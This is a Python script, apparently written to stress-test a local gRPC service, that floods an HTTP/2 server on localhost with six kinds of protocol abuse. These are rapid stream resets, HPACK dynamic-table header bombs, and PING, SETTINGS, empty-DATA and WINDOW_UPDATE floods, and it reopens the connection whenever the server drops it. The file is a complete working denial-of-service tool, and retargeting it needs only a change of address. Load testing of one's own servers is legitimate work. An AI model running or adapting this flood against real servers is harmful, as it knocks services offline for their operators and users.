"""Floods a server by HTTP/2 until it is stopped: flood.py PORT KIND. Canned bytes, so that the server has more to do than
this; a connection that is ended is opened again. Standard library only."""
import select
import socket
import struct
import sys

DATA, HEADERS, RST_STREAM, SETTINGS, PING, WINDOW_UPDATE = 0, 1, 3, 4, 6, 8
HELLO = b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n"
# So many streams of a connection; then it is opened again.
STREAMS = 20_000


def frame(kind, flags, stream, payload=b""):
    return struct.pack(">I", len(payload))[1:] + bytes([kind, flags]) + struct.pack(">I", stream) + payload


def literal(text):
    return bytes([len(text)]) + text


# POST, http, a path, an authority, te, content-type: by their indices in HPACK's static table, values spelt out.
FIELDS = (b"\x83\x86\x04" + literal(b"/churn.v1.Churn/PredictById") + b"\x01" + literal(b"flood")
          + b"\x00" + literal(b"te") + literal(b"trailers") + b"\x0f\x10" + literal(b"application/grpc"))  # fmt: skip
# A field of 4,000 bytes that enters the dynamic table, and then by one byte each.
BOMB = FIELDS + b"\x40" + literal(b"x-bomb") + b"\x7f" + b"\xa1\x1e" + b"x" * 4000 + b"\xbe" * 12_000


def resets():
    for stream in range(1, 2 * STREAMS, 2):
        yield frame(HEADERS, 4, stream, FIELDS) + frame(RST_STREAM, 0, stream, struct.pack(">I", 8))


def header_lists():
    for stream in range(1, 2 * STREAMS, 2):
        yield frame(HEADERS, 5, stream, BOMB[:16_384])


def repeated(*frames):
    yield frame(HEADERS, 4, 1, FIELDS)
    for _ in range(STREAMS):
        yield b"".join(frames) * 50


KINDS = {
    "resets": resets,
    "header-lists": header_lists,
    "pings": lambda: repeated(frame(PING, 0, 0, bytes(8))),
    "settings": lambda: repeated(frame(SETTINGS, 0, 0, struct.pack(">HI", 4, 1000)), frame(SETTINGS, 0, 0, struct.pack(">HI", 4, 1001))),
    "empty-data": lambda: repeated(frame(DATA, 0, 1)),
    "window-updates": lambda: repeated(frame(WINDOW_UPDATE, 0, 0, struct.pack(">I", 1))),
}


def flood(port, pieces):
    with socket.create_connection(("127.0.0.1", port), 30) as connection:
        connection.sendall(HELLO + frame(SETTINGS, 0, 0))
        waiting = b""
        for piece in pieces:
            waiting += piece
            if len(waiting) < 1 << 16:
                continue
            connection.sendall(waiting)
            waiting = b""
            # What comes back is read, or the server would stop reading.
            while select.select([connection], [], [], 0)[0]:
                if not connection.recv(1 << 16):
                    return


if __name__ == "__main__":
    port, kind = int(sys.argv[1]), sys.argv[2]
    if kind not in KINDS:
        sys.exit(f"error: {kind} is no flood; there are {', '.join(KINDS)}")
    print("flooding", flush=True)
    while True:
        try:
            flood(port, KINDS[kind]())
        except (BrokenPipeError, ConnectionError):
            pass
